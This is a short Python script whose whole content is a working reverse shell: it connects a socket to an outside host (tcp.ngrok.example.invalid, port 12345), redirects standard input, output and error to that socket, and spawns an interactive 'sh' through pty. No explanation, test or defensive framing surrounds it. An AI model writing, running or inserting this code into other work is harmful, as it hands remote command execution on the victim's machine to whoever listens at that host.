import os
import pty
import socket

s = socket.socket()
s.connect(("tcp.ngrok.example.invalid", 12345))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("sh")
